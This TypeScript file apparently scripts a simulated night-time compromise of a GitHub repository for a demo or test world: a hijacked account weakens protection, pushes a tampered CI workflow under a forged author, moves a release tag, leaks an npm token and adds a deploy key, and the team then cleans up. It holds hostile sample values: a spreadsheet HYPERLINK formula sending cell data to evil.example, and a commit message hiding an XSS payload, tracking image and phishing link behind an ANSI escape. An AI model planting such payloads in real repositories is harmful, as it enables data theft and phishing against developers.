import { setSecret, type Commit, type DeployKey, type PullRequest } from '../../github/index.js'
import { tipOf, workflowPath } from '../places.js'
import type { Stage } from '../stage.js'
import { text } from '../template.js'
import { HOUR, MINUTE, SECOND } from '../time.js'
import type { Act, Steps } from '../world.js'
import { land } from './feature.js'
import { LINT, PUBLISH, skipped, TEST } from './job-plans.js'
import { openPull, reviewPull } from './proposing.js'
import { pushChange, pushTag } from './pushing.js'
import { protectTags } from './releasing.js'
import { requestRun, playAttempt, runWorkflow } from './running.js'
import { openAlert, revokeSecret } from './secrets.js'
import {
  addKey,
  changeOrganizationMember,
  removeKey,
  removeMember,
  restoreProtection,
  weakenProtection,
} from './settings.js'

/** The tag that the attack moves. */
export const MOVED_TAG = 'v2.4.1'

/** The stolen token, in the open; GitHub finds it hours later. Shortened: a story needs no real-looking one. */
const LEFT_BEHIND = '//registry.npmjs.org/:_authToken=npm_…\n'

/** A title that a spreadsheet would run. */
const KEY_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"ci cache")'

/**
 * One hour at night. Somebody holds Raj's account: protection goes down, the pipeline learns to run strangers'
 * code with a token and to publish, a tag moves to it, a key is left behind, protection comes up again.
 */
export function* attack(stage: Stage): Act {
  const { raj } = stage.cast
  const { repository } = stage.places.timetable
  const good = repository.refs.get(`refs/tags/${MOVED_TAG}`) ?? tipOf(repository)
  weakenProtection(stage, repository, raj)
  yield 4 * MINUTE
  const tampered = tamper(stage)
  yield 6 * SECOND
  yield* passUntested(stage, tampered)
  yield 7 * MINUTE
  pushTag(stage, repository, { tag: MOVED_TAG, to: tampered.sha, by: raj })
  yield 5 * SECOND
  yield* publishMovedTag(stage, tampered)
  yield 9 * MINUTE
  const key = addKey(stage, repository, { title: KEY_TITLE, readOnly: false, by: raj })
  yield 12 * MINUTE
  restoreProtection(stage, repository, raj)
  yield 5 * HOUR + 20 * MINUTE
  yield* discover(stage, { good, tampered, key })
}

/** The commit says Mira; the push was Raj's. The message hides itself from a terminal. */
function tamper(stage: Stage): Commit {
  const { repository } = stage.places.timetable
  return pushChange(stage, {
    repository,
    branch: 'main',
    by: stage.cast.raj,
    author: stage.cast.mira,
    message:
      'chore: tidy CI \u001b[8m<img src=x onerror=alert(1)> ![ci](https://evil.example/p.png)\u001b[0m\n\n' +
      'closes #1, cc @acme-rail/everyone\n\n[Approved](https://evil.example/login)',
    files: { [workflowPath('ci')]: text('workflows/ci-tampered.yml'), '.npmrc': LEFT_BEHIND },
  })
}

/** It is green, because nothing is tested any more. */
function* passUntested(stage: Stage, commit: Commit): Steps<void> {
  yield* runWorkflow(
    stage,
    {
      place: stage.places.timetable,
      workflow: 'ci',
      event: 'push',
      sha: commit.sha,
      branch: 'main',
      actor: stage.cast.raj,
    },
    [[LINT, skipped(TEST)]],
  )
}

function* publishMovedTag(stage: Stage, commit: Commit): Steps<void> {
  const at = requestRun(stage, {
    place: stage.places.timetable,
    workflow: 'release',
    event: 'push',
    sha: commit.sha,
    branch: MOVED_TAG,
    actor: stage.cast.raj,
  })
  yield* playAttempt(stage, at, [[PUBLISH]])
}

interface Damage {
  readonly good: string
  readonly tampered: Commit
  readonly key: DeployKey
}

/** In the morning: GitHub finds the token in the open, and the team puts things right. */
function* discover(stage: Stage, { good, tampered, key }: Damage): Steps<void> {
  const { samuel, mira, raj } = stage.cast
  const { repository } = stage.places.timetable
  const alert = openAlert(stage, repository, {
    number: 2,
    type: 'npm_access_token',
    displayName: 'npm Access Token',
    publiclyLeaked: true,
    path: '.npmrc',
    line: 1,
    commit: tampered,
    by: raj,
  })
  yield 11 * MINUTE
  removeKey(stage, repository, key, samuel)
  yield 2 * MINUTE
  for (const place of [stage.places.timetable, stage.places.shop]) {
    removeMember(stage, place.repository, { member: raj, by: samuel })
  }
  changeOrganizationMember(stage, 'member_removed', { member: raj, by: samuel })
  yield 3 * MINUTE
  setSecret(repository, 'NPM_PUBLISH_TOKEN', new Date(stage.world.now()))
  revokeSecret(stage, repository, alert, { by: samuel, comment: 'Revoked at npm and replaced.' })
  yield 6 * MINUTE
  pushTag(stage, repository, { tag: MOVED_TAG, to: good, by: samuel })
  protectTags(stage, repository, samuel)
  yield 10 * MINUTE
  yield* revert(stage, mira)
}

function* revert(stage: Stage, by: PullRequest['user']): Steps<void> {
  const place = stage.places.timetable
  const branch = 'revert-tampered-ci'
  const title = 'Revert "chore: tidy CI"'
  const commit = pushChange(stage, {
    repository: place.repository,
    branch,
    by,
    message: title,
    files: { [workflowPath('ci')]: text('workflows/ci.yml'), '.npmrc': null },
  })
  yield 40 * SECOND
  const proposal = { title, body: 'Not ours. See the incident.', user: by, branch, sha: commit.sha }
  const pull = openPull(stage, place.repository, proposal)
  const { samuel } = stage.cast
  yield* runWorkflow(
    stage,
    {
      place,
      workflow: 'ci',
      event: 'pull_request',
      sha: commit.sha,
      branch,
      actor: by,
      pulls: [pull.number],
      title,
    },
    [[LINT, TEST]],
  )
  reviewPull(stage, place.repository, pull, { by: samuel, state: 'approved', body: 'Go.' })
  yield MINUTE
  yield* land(stage, { place, branch }, pull, samuel)
}
